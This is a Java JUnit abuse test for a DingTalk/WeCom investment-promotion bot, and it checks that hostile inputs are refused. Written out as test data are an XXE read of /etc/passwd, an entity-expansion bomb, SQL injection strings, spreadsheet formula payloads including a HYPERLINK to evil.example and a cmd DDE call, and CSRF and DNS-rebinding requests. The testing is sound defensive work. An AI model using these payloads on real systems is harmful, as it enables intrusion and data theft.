package zhaoshang.hardening;

import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathMatching;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import com.fasterxml.jackson.databind.JsonNode;
import com.github.tomakehurst.wiremock.WireMockServer;
import me.chanjar.weixin.common.util.crypto.SHA1;
import me.chanjar.weixin.common.util.crypto.WxCryptUtil;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;
import okhttp3.Response;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import zhaoshang.chat.dingtalk.DingTalkSignature;
import zhaoshang.support.TestBot;

/**
 * Issue 7 item 5: a table of hostile inputs against a running bot (DingTalk and WeCom callbacks on, the simulator on
 * loopback). Each case must be refused or neutralised; the test counts them and fails on the first one accepted.
 */
class AbuseTest {

    static final String NOW = "2026-11-20T10:00:00+08:00";
    static final long NOW_MS = OffsetDateTime.parse(NOW).toInstant().toEpochMilli();
    static final String APP_SECRET = "abuse-app-secret-not-real";
    static final String TOKEN = "QDG6eK";
    static final String AES_KEY = "jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C";
    static final String OTHER_AES_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG";
    static final String CORP_ID = "ww-corp-expected";
    static final String VISIT = "走访\n企业：%s\n日期：昨天\n洽谈内容：%s\n投资意向：一般";

    @TempDir
    Path dir;
    WireMockServer platform;
    TestBot bot;
    final OkHttpClient http = new OkHttpClient();
    int tried;
    final List<String> accepted = new ArrayList<>();

    @BeforeEach
    void start() throws IOException {
        platform = new WireMockServer(wireMockConfig().dynamicPort().bindAddress("127.0.0.1"));
        platform.start();
        platform.stubFor(any(urlPathMatching("/.*")).willReturn(okJson("{\"errcode\":0,\"errmsg\":\"ok\"}")));
        Path config = dir.resolve("bot-config");
        TestBot.copyConfig(config);
        Path conv = config.resolve("conversations.yaml");
        Files.writeString(conv, Files.readString(conv)
                + "  - {id: cid-team1, platform: dingtalk, name: 第一工作组钉钉群, team: team1}\n"
                + "  - {id: wrk-team3, platform: wecom, name: 第三工作组企微群, team: team3}\n");
        bot = TestBot.start(dir, NOW, Map.ofEntries(Map.entry("DINGTALK_MODE", "callback"),
                Map.entry("BOT_CONFIG_DIR", config.toString()),
                Map.entry("DINGTALK_APP_KEY", "ding-app-key"), Map.entry("DINGTALK_APP_SECRET", APP_SECRET),
                Map.entry("DINGTALK_ROBOT_CODE", "robot-1"),
                Map.entry("DINGTALK_OAPI_BASE", platform.baseUrl()), Map.entry("DINGTALK_API_BASE", platform.baseUrl()),
                Map.entry("WECOM_TOKEN", TOKEN), Map.entry("WECOM_ENCODING_AES_KEY", AES_KEY),
                Map.entry("WECOM_RECEIVE_ID", CORP_ID), Map.entry("WECOM_API_BASE", platform.baseUrl())));
    }

    @AfterEach
    void stop() {
        bot.close();
        platform.stop();
    }

    /** One hostile case: {@code held} is true when it was refused or neutralised. */
    private void check(String name, boolean held) {
        tried++;
        if (!held) accepted.add(name);
    }

    @Test
    void everyHostileInputIsRefusedOrNeutralised() throws Exception {
        dingTalk();
        weCom();
        simulator();
        injection();
        unicode();
        otherTeams();
        System.out.println("abuse cases tried: " + tried + ", accepted: " + accepted.size()
                + (accepted.isEmpty() ? "" : " " + accepted));
        assertThat(accepted).as("abuse cases accepted").isEmpty();
        assertThat(tried).isGreaterThan(40);
    }

    // ------------------------------------------------------------------ DingTalk callbacks

    private void dingTalk() throws IOException {
        String ts = String.valueOf(NOW_MS);
        String good = DingTalkSignature.sign(ts, APP_SECRET);
        check("dingtalk forged sign", postDing(ding("a-1", "帮助"), ts, DingTalkSignature.sign(ts, "guessed")) == 401);
        check("dingtalk sign of another timestamp", postDing(ding("a-2", "帮助"), String.valueOf(NOW_MS + 1000), good) == 401);
        String stale = String.valueOf(NOW_MS - 2 * 3_600_000L);
        check("dingtalk stale timestamp", postDing(ding("a-3", "帮助"), stale, DingTalkSignature.sign(stale, APP_SECRET)) == 401);
        String future = String.valueOf(NOW_MS + 2 * 3_600_000L);
        check("dingtalk future timestamp", postDing(ding("a-4", "帮助"), future, DingTalkSignature.sign(future, APP_SECRET)) == 401);
        check("dingtalk timestamp not a number", postDing(ding("a-5", "帮助"), "yesterday", DingTalkSignature.sign("yesterday", APP_SECRET)) == 401);
        check("dingtalk no timestamp header", postDing(ding("a-6", "帮助"), null, good) == 401);
        check("dingtalk no sign header", postDing(ding("a-7", "帮助"), ts, null) == 401);
        check("dingtalk no headers", postDing(ding("a-8", "帮助"), null, null) == 401);
        check("dingtalk empty sign", postDing(ding("a-9", "帮助"), ts, "") == 401);
        check("dingtalk body over 64 KB", postDing(ding("a-10", "走访 " + "很".repeat(30_000)), ts, good) == 413);
        check("dingtalk malformed JSON", postDing("{\"msgId\":\"a-11\",", ts, good) == 400);
        check("dingtalk JSON array", postDing("[1,2,3]", ts, good) == 400);
        check("dingtalk no msgId", postDing(ding("a-12", "帮助").replace("\"msgId\":\"a-12\",", ""), ts, good) == 400);
        check("dingtalk empty body", postDing("", ts, good) == 400);
        bot.app.drainInbound();
        check("dingtalk refusals stored nothing", count("select count(*) from inbox") == 0);

        // a replayed message is handled once
        String visit = VISIT.formatted("东莞重放测试实业有限公司", "介绍政策");
        int first = postDing(ding("replay-1", visit), ts, good);
        int again = postDing(ding("replay-1", visit), ts, good);
        String later = String.valueOf(NOW_MS + 60_000);
        int third = postDing(ding("replay-1", visit), later, DingTalkSignature.sign(later, APP_SECRET));
        bot.app.drainInbound();
        check("dingtalk replayed msgId handled once", first == 200 && again == 200 && third == 200
                && count("select count(*) from inbox where msg_id = 'replay-1'") == 1
                && count("select count(*) from visit where enterprise = '东莞重放测试实业有限公司'") == 1
                && count("select count(*) from outbox where inbox_id = (select id from inbox where msg_id = 'replay-1')") == 1);
        // a valid signature from a group the bot does not know: answered with a pointer, nothing recorded
        postDing(ding("unknown-group", VISIT.formatted("东莞陌生群实业有限公司", "x")).replace("cid-team1", "cid-stranger"),
                signed(NOW_MS + 2)[0], signed(NOW_MS + 2)[1]);
        bot.app.drainInbound();
        check("dingtalk unknown group records nothing", count("select count(*) from visit where enterprise = '东莞陌生群实业有限公司'") == 0);
        // a known group, a sender who is no member
        postDing(ding("stranger-1", VISIT.formatted("东莞陌生人实业有限公司", "x")).replace("ding-0102", "ding-9999"),
                signed(NOW_MS + 3)[0], signed(NOW_MS + 3)[1]);
        bot.app.drainInbound();
        check("dingtalk non-member records nothing", count("select count(*) from visit where enterprise = '东莞陌生人实业有限公司'") == 0);

        // Issue 10: the sign covers only the timestamp. A captured timestamp/sign pair (of the message replay-1) reused
        // with a new msgId and an admin's sender id to run 导出全部台账, the answer to go to an attacker's address.
        WireMockServer attacker = new WireMockServer(wireMockConfig().dynamicPort().bindAddress("127.0.0.1"));
        attacker.start();
        try {
            attacker.stubFor(any(urlPathMatching("/.*")).willReturn(okJson("{\"errcode\":0}")));
            String steal = attacker.baseUrl() + "/robot/sendBySession?session=stolen";
            String exportAll = ding("attack-1", "导出全部台账").replace("ding-0102", "ding-0900").replace("何雨晴", "投促部小周");
            check("dingtalk captured sign reused for another message (an admin's 导出全部台账)",
                    postDing(exportAll, ts, good) == 401);
            check("dingtalk captured sign reused with an attacker's sessionWebhook",
                    postDing(exportAll.replace("attack-1", "attack-2").replace(platform.baseUrl() + "/robot/sendBySession?session=abc", steal),
                            ts, good) / 100 == 4);
            String[] fresh = signed(NOW_MS + 4);
            check("dingtalk sessionWebhook on an attacker's host", postDing(exportAll.replace("attack-1", "attack-3")
                    .replace(platform.baseUrl() + "/robot/sendBySession?session=abc", steal), fresh[0], fresh[1]) == 400);
            String[] fresh2 = signed(NOW_MS + 5);
            check("dingtalk sessionWebhook to another robot on DingTalk's host", postDing(exportAll.replace("attack-1", "attack-4")
                    .replace("/robot/sendBySession?session=abc", "/robot/send?access_token=attackers-robot"), fresh2[0], fresh2[1]) == 400);
            bot.app.drainInbound();
            check("dingtalk attacks stored nothing", count("select count(*) from inbox where msg_id like 'attack-%'") == 0);
            check("dingtalk attacker's address received nothing", attacker.getAllServeEvents().isEmpty());
        } finally {
            attacker.stop();
        }
    }

    /** A timestamp (ms) and its valid sign. */
    private static String[] signed(long timestampMillis) {
        String ts = String.valueOf(timestampMillis);
        return new String[] {ts, DingTalkSignature.sign(ts, APP_SECRET)};
    }

    private String ding(String msgId, String text) {
        com.fasterxml.jackson.databind.node.ObjectNode root = com.fasterxml.jackson.databind.json.JsonMapper.builder()
                .build().createObjectNode();
        root.put("conversationId", "cid-team1").put("msgId", msgId).put("senderNick", "何雨晴")
                .put("senderStaffId", "ding-0102").put("conversationType", "2").put("createAt", NOW_MS)
                .put("sessionWebhook", platform.baseUrl() + "/robot/sendBySession?session=abc")
                .put("sessionWebhookExpiredTime", NOW_MS + 5_400_000L).put("msgtype", "text").put("robotCode", "robot-1");
        root.putObject("text").put("content", " " + text);
        return root.toString();
    }

    private int postDing(String body, String timestamp, String sign) throws IOException {
        Request.Builder b = new Request.Builder().url(bot.base() + "/dingtalk/callback")
                .post(RequestBody.create(body, MediaType.get("application/json; charset=utf-8")));
        if (timestamp != null) b.header("timestamp", timestamp);
        if (sign != null) b.header("sign", sign);
        try (Response r = http.newCall(b.build()).execute()) {
            return r.code();
        }
    }

    // ------------------------------------------------------------------ WeCom callbacks

    private void weCom() throws Exception {
        long before = count("select count(*) from inbox");
        String ts = String.valueOf(NOW_MS / 1000);
        String aibot = """
                {"msgid":"%s","aibotid":"AIBOT","chatid":"wrk-team3","chattype":"group","from":{"userid":"shenzhiwei"},
                 "response_url":"%s/aibot/response?response_code=abc","msgtype":"text","text":{"content":"@招商助手 帮助"}}""";
        String appXml = "<xml><ToUserName><![CDATA[" + CORP_ID + "]]></ToUserName><FromUserName><![CDATA[shenzhiwei]]>"
                + "</FromUserName><CreateTime>" + ts + "</CreateTime><MsgType><![CDATA[text]]></MsgType>"
                + "<Content><![CDATA[帮助]]></Content><MsgId>%s</MsgId><AgentID>1</AgentID></xml>";

        String wrongKey = new WxCryptUtil(TOKEN, OTHER_AES_KEY, "").encrypt("aaaabbbbccccdddd", aibot.formatted("w-1", platform.baseUrl()));
        check("wecom wrong AES key", postWeCom(json(wrongKey), ts, sig(ts, "n1", wrongKey), "n1") == 401);

        String good = new WxCryptUtil(TOKEN, AES_KEY, "").encrypt("aaaabbbbccccdddd", aibot.formatted("w-2", platform.baseUrl()));
        char[] c = good.toCharArray();
        c[40] = c[40] == 'A' ? 'B' : 'A';
        c[41] = c[41] == 'z' ? 'y' : 'z';
        String tampered = new String(c);
        check("wecom tampered ciphertext", postWeCom(json(tampered), ts, sig(ts, "n2", tampered), "n2") == 401);
        check("wecom ciphertext not base64", postWeCom(json("!!!not-base64!!!"), ts, sig(ts, "n3", "!!!not-base64!!!"), "n3") == 401);
        check("wecom bad msg_signature", postWeCom(json(good), ts, "0".repeat(40), "n4") == 401);
        String stale = String.valueOf(NOW_MS / 1000 - 7200);
        check("wecom stale timestamp", postWeCom(json(good), stale, sig(stale, "n5", good), "n5") == 401);
        check("wecom missing query", postWeComUrl(bot.base() + "/wecom/callback", json(good)) == 401);

        String otherCorp = new WxCryptUtil(TOKEN, AES_KEY, "ww-corp-other").encrypt("aaaabbbbccccdddd", appXml.formatted("w-6"));
        check("wecom wrong receive id", postWeCom(xml(otherCorp), ts, sig(ts, "n6", otherCorp), "n6") == 401);
        check("wecom malformed XML", postWeCom("<xml><Encrypt>abc</Encrypt>", ts, sig(ts, "n7", "abc"), "n7") == 400);
        check("wecom malformed JSON", postWeCom("{\"encrypt\":", ts, sig(ts, "n8", "x"), "n8") == 400);
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                + "<xml><Encrypt>&xxe;</Encrypt></xml>";
        int xxeStatus = postWeCom(xxe, ts, sig(ts, "n9", "x"), "n9");
        check("wecom XXE", xxeStatus == 400 || xxeStatus == 401);
        String bomb = "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;\">]>"
                + "<xml><Encrypt>&lol2;</Encrypt></xml>";
        int bombStatus = postWeCom(bomb, ts, sig(ts, "n10", "x"), "n10");
        check("wecom entity expansion", bombStatus == 400 || bombStatus == 401);
        check("wecom body over 64 KB", postWeCom(json("A".repeat(70_000)), ts, sig(ts, "n11", "A"), "n11") == 413);
        // the same encrypted message twice: stored once
        String once = new WxCryptUtil(TOKEN, AES_KEY, "").encrypt("aaaabbbbccccdddd", aibot.formatted("w-once", platform.baseUrl()));
        int s1 = postWeCom(json(once), ts, sig(ts, "n12", once), "n12");
        int s2 = postWeCom(json(once), ts, sig(ts, "n12", once), "n12");
        bot.app.drainInbound();
        check("wecom replay stored once", s1 == 200 && s2 == 200
                && count("select count(*) from inbox where msg_id = 'w-once'") == 1);
        check("wecom refusals stored nothing", count("select count(*) from inbox") == before + 1);
    }

    private static String json(String encrypt) {
        return "{\"encrypt\":\"" + encrypt + "\"}";
    }

    private static String xml(String encrypt) {
        return "<xml><ToUserName><![CDATA[" + CORP_ID + "]]></ToUserName><Encrypt><![CDATA[" + encrypt
                + "]]></Encrypt><AgentID><![CDATA[1]]></AgentID></xml>";
    }

    private static String sig(String ts, String nonce, String encrypt) {
        return SHA1.gen(TOKEN, ts, nonce, encrypt);
    }

    private int postWeCom(String body, String ts, String signature, String nonce) throws IOException {
        return postWeComUrl(bot.base() + "/wecom/callback?msg_signature=" + signature + "&timestamp=" + ts + "&nonce=" + nonce, body);
    }

    private int postWeComUrl(String url, String body) throws IOException {
        try (Response r = http.newCall(new Request.Builder().url(url)
                .post(RequestBody.create(body, MediaType.get(body.startsWith("<") ? "text/xml" : "application/json")))
                .build()).execute()) {
            return r.code();
        }
    }

    // ------------------------------------------------------------------ the simulator

    private void simulator() throws Exception {
        TestBot.Http tooLong = bot.post("/local/messages", Map.of("conversation", "local-team1", "sender", "m-he",
                "text", "走访\n企业：" + "长".repeat(8_001), "id", "long-1"));
        check("simulator text over 8000 chars", tooLong.status() == 400);
        check("simulator malformed JSON", bot.post("/local/messages", "{\"conversation\":").status() == 400);
        check("simulator text not a string", bot.post("/local/messages", "{\"conversation\":\"local-team1\",\"sender\":\"m-he\",\"text\":[1]}").status() == 400);
        check("simulator unknown sender", bot.post("/local/messages", Map.of("conversation", "local-team1",
                "sender", "m-nobody", "text", VISIT.formatted("东莞冒名实业有限公司", "x"))).status() / 100 != 5
                && count("select count(*) from visit where enterprise = '东莞冒名实业有限公司'") == 0);
        // Issue 10: any web page could drive the simulator (a text/plain or form post performed 更正 and moved the clock)
        String correct = "{\"conversation\":\"local-team1\",\"sender\":\"m-he\",\"text\":\"更正 #V-0001 洽谈内容：被外站改了\",\"id\":\"csrf-%d\"}";
        Instant clockBefore = bot.app.clock().instant();
        check("simulator text/plain post from a foreign page", simulatorPost("/local/messages", correct.formatted(1),
                "text/plain;charset=UTF-8", Map.of("Origin", "http://evil.example")) / 100 == 4);
        // what fetch(…, {mode: "no-cors"}) sends: the raw JSON labelled as a form
        check("simulator form post from a foreign page", simulatorPost("/local/messages", correct.formatted(6),
                "application/x-www-form-urlencoded", Map.of("Origin", "http://evil.example")) / 100 == 4);
        check("simulator text/plain post without Origin", simulatorPost("/local/messages", correct.formatted(2),
                "text/plain", Map.of()) == 415);
        check("simulator JSON post with a foreign Origin", simulatorPost("/local/messages", correct.formatted(3),
                "application/json", Map.of("Origin", "http://evil.example")) == 403);
        check("simulator JSON post marked cross-site", simulatorPost("/local/messages", correct.formatted(4),
                "application/json", Map.of("Sec-Fetch-Site", "cross-site")) == 403);
        check("simulator through a DNS-rebinding host name", simulatorPost("/local/messages", correct.formatted(5),
                "application/json", Map.of("Host", "evil.example:" + bot.app.port(), "Origin", "http://evil.example:" + bot.app.port())) == 403);
        check("simulator read through a DNS-rebinding host name",
                simulatorGet("/local/messages?conversation=local-team1", Map.of("Host", "evil.example:" + bot.app.port())) == 403);
        check("simulator clock moved by a foreign page", simulatorPost("/local/clock", "{\"now\":\"2026-11-20T12:00:00+08:00\"}",
                "text/plain", Map.of("Origin", "http://evil.example")) / 100 == 4);
        check("simulator clock moved while real platforms are configured", simulatorPost("/local/clock",
                "{\"now\":\"2026-11-20T12:00:00+08:00\"}", "application/json", Map.of()) == 403);
        check("simulator clock unchanged", bot.app.clock().instant().isBefore(clockBefore.plusSeconds(60)));
        check("simulator foreign posts changed nothing", count("select count(*) from visit where content = '被外站改了'") == 0
                && count("select count(*) from inbox where msg_id like 'csrf-%'") == 0);

        Optional<InetAddress> own = nonLoopbackAddress();
        if (own.isPresent()) {
            String url = "http://" + own.get().getHostAddress() + ":" + bot.app.port() + "/local/messages";
            try (Response r = http.newCall(new Request.Builder().url(url).post(RequestBody.create(
                    "{\"conversation\":\"local-team1\",\"sender\":\"m-lin\",\"text\":\"帮助\"}",
                    MediaType.get("application/json"))).build()).execute()) {
                check("simulator from a non-loopback address", r.code() == 403);
            }
        } else {
            System.out.println("abuse: no non-loopback IPv4 address on this machine, simulator address case skipped");
        }
    }

    private int simulatorPost(String path, String body, String contentType, Map<String, String> headers) throws IOException {
        Request.Builder b = new Request.Builder().url(bot.base() + path).post(RequestBody.create(body, MediaType.get(contentType)));
        headers.forEach(b::header);
        try (Response r = http.newCall(b.build()).execute()) {
            return r.code();
        }
    }

    private int simulatorGet(String path, Map<String, String> headers) throws IOException {
        Request.Builder b = new Request.Builder().url(bot.base() + path).get();
        headers.forEach(b::header);
        try (Response r = http.newCall(b.build()).execute()) {
            return r.code();
        }
    }

    private static Optional<InetAddress> nonLoopbackAddress() throws Exception {
        for (NetworkInterface ni : Collections.list(NetworkInterface.getNetworkInterfaces())) {
            if (!ni.isUp() || ni.isLoopback()) continue;
            for (InetAddress a : Collections.list(ni.getInetAddresses())) {
                if (a instanceof Inet4Address && !a.isLoopbackAddress()) return Optional.of(a);
            }
        }
        return Optional.empty();
    }

    // ------------------------------------------------------------------ SQL and formula injection

    private void injection() throws Exception {
        // no ；/; in the name: an enterprise's value ends with its clause (the words after a ; are kept as free text)
        String sqlName = "x'), ('1'='1') drop table visit--";
        String sqlText = "a'; delete from inbox; --";
        String reply = say("local-team1", "m-he", VISIT.formatted(sqlName, sqlText));
        check("SQL injection in report fields: tables intact", tablesIntact() && reply.contains("V-"));
        check("SQL injection in report fields: stored literally",
                count("select count(*) from visit where enterprise = 'x''), (''1''=''1'') drop table visit--' and content = 'a''; delete from inbox; --'") == 1);
        say("local-team1", "m-he", VISIT.formatted("y'); drop table visit;--", sqlText));
        check("SQL injection cut at its ; in a report field: tables intact", tablesIntact());
        long active = count("select count(*) from visit where status = 'active'");
        for (String cmd : List.of("撤销 V-0001' or '1'='1", "撤销 #V-0001; drop table visit;--", "我的记录' or 1=1--",
                "更正 V-0001' or 1=1-- 企业名称：x", "历史 V-0001' union select * from inbox--",
                "导出台账 '; drop table inbox;--", "本月进度 1; delete from visit")) {
            TestBot.Http r = bot.post("/local/messages", Map.of("conversation", "local-team1", "sender", "m-qian",
                    "text", cmd, "id", "sql-" + (++seq)));
            check("SQL injection in command: " + cmd, r.status() == 200 && tablesIntact()
                    && count("select count(*) from visit where status = 'active'") == active);
        }

        List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")", "+1+1", "@SUM(A1:A9)",
                "-2+3", "=cmd|' /C calc'!A0", "\t=1+1");
        int n = 0;
        for (String f : formulas) {
            say("local-team1", "m-he", "走访\n企业：东莞公式测试" + (++n) + "实业有限公司\n日期：昨天\n洽谈内容：" + f
                    + "\n对接人员：" + f + "\n所在地区：" + f + "\n投资意向：一般");
            say("local-team1", "m-he", "走访\n企业：" + f + "\n日期：昨天\n洽谈内容：公式放在企业名称\n投资意向：一般");
        }
        JsonNode replies = bot.say("local-team1", "m-lin", "导出台账 11月");
        String url = null;
        for (JsonNode r : replies) if (r.hasNonNull("url")) url = r.get("url").asText();
        assertThat(url).as("the export answered with a file").isNotNull();
        int formulaCells = 0;
        int literal = 0;
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(bot.download(url)))) {
            for (Sheet sheet : wb) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        if (cell.getCellType() == CellType.FORMULA) {
                            formulaCells++;
                        } else if (cell.getCellType() == CellType.STRING && formulas.stream()
                                .anyMatch(f -> cell.getStringCellValue().contains(f.strip()))) {
                            literal++;
                        }
                    }
                }
            }
        }
        for (String f : formulas) check("formula injection " + f.strip(), formulaCells == 0);
        check("formula text kept as text in the export", literal >= formulas.size());
    }

    private int seq;

    private String say(String conversation, String sender, String text) {
        TestBot.Http r = bot.post("/local/messages", Map.of("conversation", conversation, "sender", sender,
                "text", text, "id", "abuse-" + (++seq)));
        if (r.status() != 200) return "HTTP " + r.status() + " " + r.text();
        StringBuilder sb = new StringBuilder();
        for (JsonNode n : r.body().path("replies")) sb.append(n.path("text").asText()).append('\n');
        return sb.toString();
    }

    private boolean tablesIntact() {
        try {
            count("select count(*) from visit");
            count("select count(*) from inbox");
            count("select count(*) from outbox");
            count("select count(*) from lead");
            return true;
        } catch (RuntimeException e) {
            return false;
        }
    }

    private long count(String sql) {
        return bot.app.database().jdbi().withHandle(h -> h.createQuery(sql).mapTo(Long.class).one());
    }

    // ------------------------------------------------------------------ unicode oddities

    private void unicode() {
        Map<String, String> cases = new java.util.LinkedHashMap<>();
        cases.put("full-width date", "走访\n企业：东莞全角日期实业有限公司\n日期：２０２６年１１月１９日\n洽谈内容：全角\n投资意向：一般");
        cases.put("full-width money", "线索\n企业：东莞全角金额实业有限公司\n项目：全角项目\n投资额：１，０００万元\n产业方向：电子信息");
        cases.put("zero-width spaces", "走\u200B访\n企\u200B业：东莞零宽\u200B实业有限公司\n日\u200C期：昨天\n洽谈内容：零\u200D宽\n投资意向：一般");
        cases.put("emoji", "走访\n企业：东莞🚀火箭实业有限公司\n日期：昨天\n洽谈内容：👍👍\n投资意向：一般");
        cases.put("RTL override", "走访\n企业：东莞\u202Eabc\u202C实业有限公司\n日期：昨天\n洽谈内容：\u202Bمرحبا\u202C\n投资意向：一般");
        cases.put("RTL isolate and mark", "走访\n企业：东莞\u2067隔离\u2069\u200F实业有限公司\n日期：昨天\n洽谈内容：\u061C标记\n投资意向：一般");
        cases.put("BOM and word joiner", "\uFEFF走访\n企业：东莞\u2060连接\uFEFF实业有限公司\n日期：昨天\n洽谈内容：x\n投资意向：一般");
        cases.put("only invisible", "\u200B\u200C\u200D\uFEFF");
        cases.put("combining marks", "走访\n企业：东莞Z\u0351\u0352\u0353\u0354实业有限公司\n日期：昨天\n洽谈内容：x\n投资意向：一般");
        cases.put("lone surrogate", "走访\n企业：东莞\uD800实业有限公司\n日期：昨天\n洽谈内容：x\n投资意向：一般");
        cases.put("NUL and controls", "走访\n企业：东莞\u0000\u0007实业有限公司\n日期：昨天\n洽谈内容：x\u001B[31m\n投资意向：一般");
        for (Map.Entry<String, String> e : cases.entrySet()) {
            String reply = say("local-team1", "m-he", e.getValue());
            boolean clear = !reply.startsWith("HTTP 5") && !reply.isBlank() && !reply.contains("服务器内部错误")
                    && !reply.contains("处理失败");
            check("unicode " + e.getKey() + " answered clearly", clear);
        }
        // nothing invisible or direction-changing reaches the ledger (checked here, not in SQL: the same on both
        // databases)
        List<String[]> stored = bot.app.database().jdbi().withHandle(h -> h.createQuery(
                "select enterprise, content from visit").map((rs, ctx) -> new String[] {
                        rs.getString(1), rs.getString(2) == null ? "" : rs.getString(2)}).list());
        java.util.regex.Pattern invisible = java.util.regex.Pattern.compile(
                "[\u200B-\u200F\u202A-\u202E\u2060-\u206F\uFEFF\u061C]");
        check("no bidi or invisible characters stored", stored.stream()
                .noneMatch(v -> invisible.matcher(v[0]).find() || invisible.matcher(v[1]).find()));
        java.util.regex.Pattern controlInName = java.util.regex.Pattern.compile("[\u0000-\u0008\u000B\u000C\u000E-\u001F]");
        java.util.regex.Pattern controlInContent = java.util.regex.Pattern.compile("[\u0001-\u0008\u000E-\u001F]");
        check("no control characters stored", stored.stream()
                .noneMatch(v -> controlInName.matcher(v[0]).find() || controlInContent.matcher(v[1]).find()));
    }

    // ------------------------------------------------------------------ other teams' records and exports

    private void otherTeams() {
        String xu = say("local-team2", "m-xu", VISIT.formatted("东莞二组自有实业有限公司", "二组的记录"));
        String number = xu.replaceAll("(?s).*?(V-\\d+).*", "$1");
        assertThat(number).startsWith("V-");
        String mine = say("local-team1", "m-he", VISIT.formatted("东莞一组何雨晴实业有限公司", "一组的记录"));
        String heNumber = mine.replaceAll("(?s).*?(V-\\d+).*", "$1");

        say("local-team2", "m-he", VISIT.formatted("东莞越组写入实业有限公司", "写到二组群里"));
        check("member writing into another team's ledger", count(
                "select count(*) from visit where enterprise = '东莞越组写入实业有限公司' and team_id = 'team2'") == 0);
        say("local-team1", "m-he", "更正 " + number + " 洽谈内容：被一组改了");
        check("member correcting another team's record", count(
                "select count(*) from visit where number = '#" + number + "' and content = '二组的记录'") == 1);
        say("local-team2", "m-he", "撤销 " + number + " 不要了");
        check("member withdrawing another team's record", count(
                "select count(*) from visit where number = '#" + number + "' and status = 'active'") == 1);
        say("local-team1", "m-lin", "更正 " + number + " 洽谈内容：一组组长改二组");
        check("team leader correcting another team's record", count(
                "select count(*) from visit where number = '#" + number + "' and content = '二组的记录'") == 1);
        say("local-team1", "m-qian", "更正 " + heNumber + " 洽谈内容：同组组员改别人的");
        check("member correcting a teammate's record", count(
                "select count(*) from visit where number = '#" + heNumber + "' and content = '一组的记录'") == 1);
        say("local-team1", "m-qian", "撤销 " + heNumber);
        check("member withdrawing a teammate's record", count(
                "select count(*) from visit where number = '#" + heNumber + "' and status = 'active'") == 1);
        check("member viewing another team's record history",
                !say("local-team1", "m-he", "历史 " + number).contains("二组的记录"));
        // issue 10: a lead's 线索来源 naming another team's visit linked it and showed it in the answer
        String lead = say("local-team1", "m-he",
                "线索\n企业：东莞越组关联实业有限公司\n项目名称：越组项目\n拟投资额：1亿元\n线索来源：#" + number);
        check("lead linking another team's visit as its 线索来源", !lead.contains("东莞二组自有实业有限公司")
                && !lead.contains("二组的记录")
                && count("select count(*) from lead where enterprise = '东莞越组关联实业有限公司'") == 1
                && count("select count(*) from lead where enterprise = '东莞越组关联实业有限公司' and visit_id is not null") == 0);

        for (String[] c : List.of(new String[] {"local-team1", "m-he", "导出台账 第二工作组 11月"},
                new String[] {"local-team1", "m-he", "导出全部台账 11月"},
                new String[] {"local-team2", "m-he", "导出台账 11月"},
                new String[] {"local-coord", "m-he", "导出全部台账"},
                new String[] {"local-team1", "m-lin", "导出台账 第二工作组 11月"},
                new String[] {"local-team1", "m-lin", "导出全部台账 11月"})) {
            JsonNode replies = bot.say(c[0], c[1], c[2]);
            boolean file = false;
            for (JsonNode r : replies) file |= r.hasNonNull("url");
            boolean leaked = false;
            if (file) {
                for (JsonNode r : replies) {
                    if (!r.hasNonNull("url")) continue;
                    leaked |= workbookText(bot.download(r.get("url").asText())).contains("东莞二组自有实业有限公司");
                }
            }
            check(c[1] + " in " + c[0] + ": " + c[2], !leaked);
        }
    }

    private static String workbookText(byte[] xlsx) {
        StringBuilder sb = new StringBuilder();
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Sheet sheet : wb) {
                for (Row row : sheet) {
                    for (Cell cell : row) sb.append(cell.toString()).append('\t');
                }
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return sb.toString();
    }
}
